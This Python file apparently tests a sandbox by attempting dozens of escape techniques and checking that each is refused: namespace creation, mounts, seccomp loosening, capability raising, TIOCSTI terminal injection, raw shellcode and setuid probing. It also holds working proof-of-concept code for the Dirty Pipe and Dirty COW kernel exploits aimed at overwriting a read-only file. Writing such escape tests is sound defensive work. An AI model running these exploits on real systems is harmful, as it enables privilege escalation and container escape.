import ctypes
import mmap
import os
import resource
import signal
import struct
import subprocess
import threading

from .kernel_calls import MACHINE, call, libc, raw, refused_all

NEW_USER, NEW_NS, NEW_NET = 0x10000000, 0x00020000, 0x40000000


def _calls(*names, arguments=(0, 0, 0, 0, 0)):
    """Each of some calls, which must all be refused."""
    return lambda _: refused_all([lambda name=name: call(name, *arguments) for name in names])


def _clone(flags):
    def act(_):
        pid = call("clone", flags | signal.SIGCHLD, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        return pid

    return act


def _clone3(_):
    arguments = ctypes.create_string_buffer(88)
    struct.pack_into("Q", arguments, 0, NEW_USER)
    struct.pack_into("Q", arguments, 32, signal.SIGCHLD)
    pid = call("clone3", arguments, 88)
    if pid == 0:
        os._exit(0)
    return pid


def _mount(kind, flags, source=b"none", target=b"/tmp"):
    return lambda _: call("mount", source, target, kind, flags, None)


def _code(instructions):
    """Runs machine code of our own."""

    def act(_):
        if MACHINE != "x86_64":
            raise OSError(38, "not on this architecture")
        memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        memory.write(instructions)
        address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        return ctypes.CFUNCTYPE(ctypes.c_long)(address)()

    return act


def _x32(_):
    if MACHINE != "x86_64":
        raise OSError(38, "not on this architecture")
    return raw(0x40000000 | 41, 2, 1, 0)


def _unlisted(_):
    """Numbers that no kernel has yet, and those of other tables."""
    return refused_all([lambda n=n: raw(n, 0, 0, 0, 0, 0, 0) for n in range(470, 1200)])


def _loosen(_):
    """A filter of one's own that allows everything does not take away the others."""
    program = struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)
    held = ctypes.create_string_buffer(program)

    class Program(ctypes.Structure):
        _fields_ = [("length", ctypes.c_ushort), ("filter", ctypes.c_void_p)]

    if libc.prctl(22, 2, ctypes.byref(Program(1, ctypes.addressof(held))), 0, 0) != 0:
        raise OSError(ctypes.get_errno(), "prctl")
    return call("socket", 2, 1, 0)


def _capabilities(_):
    header = struct.pack("Ii", 0x20080522, 0)
    everything = struct.pack("6I", *[0xFFFFFFFF] * 6)
    return refused_all(
        [
            lambda: call("capset", header, everything),
            lambda: call("prctl", 47, 2, 21, 0, 0),  # PR_CAP_AMBIENT_RAISE of CAP_SYS_ADMIN
            lambda: call("prctl", 28, 0, 0, 0, 0),  # PR_SET_SECUREBITS
            lambda: call("prctl", 38, 0, 0, 0, 0),  # PR_SET_NO_NEW_PRIVS, back to 0
            lambda: call("prctl", 35, 1, 4096, 0, 0),  # PR_SET_MM
        ]
    )


def _inject(request):
    """Typing for whoever started us: TIOCSTI, on everything open and on the terminal."""

    def act(_):
        def on(handle):
            return call("ioctl", handle, request, b"x")

        return refused_all(
            [lambda h=h: on(h) for h in range(4)] + [lambda: on(os.open("/dev/tty", os.O_RDWR)), lambda: on(os.open("/dev/ptmx", os.O_RDWR))]
        )  # fmt: skip

    return act


def _dirty_pipe(_):
    """CVE-2022-0847: a page of a file that we may only read, in a pipe whose pages were marked to be written to."""
    path = "/code/attacker.py"
    with open(path, "rb") as file:
        before = file.read()
        read, write = os.pipe()
        for _ in range(16):
            os.write(write, b"x" * 4096)
            os.read(read, 4096)
        os.sendfile(write, file.fileno(), 0, 1)
        os.write(write, b"OWNED")
    with open(path, "rb") as file:
        if file.read() != before:
            return "the code was changed"
    raise PermissionError(1, "the file is as it was")


def _dirty_cow(_):
    """CVE-2016-5195: a private mapping written to through /proc/self/mem, while its pages are thrown away."""
    libc.prctl(4, 1, 0, 0, 0)
    path = "/code/attacker.py"
    handle = os.open(path, os.O_RDONLY)
    before = os.pread(handle, 4096, 0)
    mapped = mmap.mmap(handle, 512, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
    address = _address_of(path)
    stop = threading.Event()

    def throw_away():
        while not stop.is_set():
            mapped.madvise(mmap.MADV_DONTNEED)

    thread = threading.Thread(target=throw_away)
    thread.start()
    try:
        with open("/proc/self/mem", "r+b", 0) as memory:
            for _ in range(2000):
                memory.seek(address)
                memory.write(b"OWNED")
    finally:
        stop.set()
        thread.join()
    if os.pread(os.open(path, os.O_RDONLY), 4096, 0) != before:
        return "the code was changed"
    raise PermissionError(1, "the file is as it was")


def _address_of(path):
    with open("/proc/self/maps") as maps:
        for line in maps:
            if line.rstrip().endswith(path):
                return int(line.split("-")[0], 16)
    raise FileNotFoundError(2, path)


def _core(_):
    """core_pattern may name a program of the host, which then runs as root: only a limit of exactly 1 keeps it from that."""
    if resource.getrlimit(resource.RLIMIT_CORE) != (1, 1):
        return resource.getrlimit(resource.RLIMIT_CORE)
    return refused_all(
        [
            lambda: call("setrlimit", resource.RLIMIT_CORE, bytes(16)),
            lambda: call("prlimit64", 0, resource.RLIMIT_CORE, bytes(16), 0),
            lambda: call("prlimit64", 0, resource.RLIMIT_CORE | 1 << 32, bytes(16), 0),
        ]
    )


def _setuid_program(_):
    """A program that is root's by its mode."""
    for folder in ("/usr/bin", "/usr/sbin", "/usr/lib"):
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if os.path.isfile(path) and os.stat(path).st_mode & 0o4000:
                program = os.path.basename(path)
                arguments = {"su": ["-c", "id -u"], "sudo": ["-n", "id", "-u"], "mount": ["-t", "tmpfs", "x", "/tmp"]}
                run = subprocess.run([path, *arguments.get(program, [])], capture_output=True, stdin=subprocess.DEVNULL)
                if run.stdout.strip() == b"0" or (program == "mount" and run.returncode == 0):
                    return path
    raise PermissionError(1, "none gave it")


ACTS = {
    "a user namespace": lambda _: call("unshare", NEW_USER),
    "a user namespace by clone": _clone(NEW_USER | NEW_NS),
    "each other namespace by clone": lambda mark: refused_all(
        [lambda f=f: _clone(f)(mark) for f in (0x20000, 0x2000000, 0x4000000, 0x8000000, 0x20000000, 0x40000000)]
    ),
    "clone3": _clone3,
    "setns to the slot's namespaces": lambda _: call("setns", call("pidfd_open", 1, 0), 0x7E020000),
    "mounting": _mount(b"tmpfs", 0),
    "mounting as lines do": _mount(b"proc", 14),
    "mounting read-only files anew, to write": _mount(None, 32 | 4096, b"/code", b"/code"),
    "mounting an overlay": _mount(b"overlay", 6, b"x", b"/tmp/work"),
    "unmounting": lambda _: refused_all([lambda p=p: call("umount2", p, 2) for p in (b"/tmp", b"/proc", b"/code")]),
    "another root": _calls("pivot_root", "chroot", arguments=(b"/tmp", b"/tmp")),
    "the new calls for mounts": _calls(
        "open_tree", "move_mount", "fsopen", "fsconfig", "fsmount", "fspick", "mount_setattr", "statmount", "listmount"
    ),
    "keys of the kernel": _calls("keyctl", "add_key", "request_key"),
    "programs for the kernel (bpf)": _calls("bpf"),
    "performance counters": _calls("perf_event_open"),
    "user faults": lambda _: refused_all([lambda: call("userfaultfd", 1), lambda: os.open("/dev/userfaultfd", 2)]),
    "io_uring": _calls("io_uring_setup", "io_uring_enter", "io_uring_register", "io_setup"),
    "another personality": _calls("personality", arguments=(0x0400000 | 0x0040000, 0, 0, 0)),
    "descriptor tables of segments": _calls("modify_ldt", "iopl", "ioperm"),
    "another kernel": _calls("kexec_load", "reboot", "swapon", "acct"),
    "modules for the kernel": _calls("init_module", "finit_module", "delete_module"),
    "the kernel's log": _calls("syslog", arguments=(3, 0, 0)),
    "clocks and names of the machine": _calls(
        "settimeofday", "clock_settime", "adjtimex", "sethostname", "setdomainname"
    ),
    "a filter that lets through": _loosen,
    "listening to filters": _calls("seccomp", arguments=(1, 8, 0)),
    "capabilities again": _capabilities,
    "typing into a terminal": _inject(0x5412),
    "typing into a terminal, with high bits set": _inject(0x5412 | 1 << 32),
    "messages, semaphores and queues": _calls("msgget", "semget", "mq_open"),
    "files by handle": _calls("name_to_handle_at", "open_by_handle_at"),
    "memory of other nodes": _calls("mbind", "migrate_pages", "move_pages", "set_mempolicy"),
    "advice on others' memory": _calls("process_madvise", "process_mrelease", "kcmp"),
    "watching all files": _calls("fanotify_init", "inotify_init1"),
    "quotas, hang-ups and old calls": _calls("quotactl", "vhangup", "lookup_dcookie", "uselib"),
    "pages spliced into pipes": _calls("vmsplice", "splice", "tee"),
    "numbers that nobody listed": _unlisted,
    "x32 calls": _x32,
    # mov eax, 359 (socket); mov ebx, 2; mov ecx, 1; xor edx, edx; int 0x80; ret
    "i386 calls": _code(bytes.fromhex("b867010000bb02000000b90100000031d2cd80c3")),
    "dirty pipe": _dirty_pipe,
    "dirty cow": _dirty_cow,
    "a program run by a core dump": _core,
    "a program that is root's by its mode": _setuid_program,
}
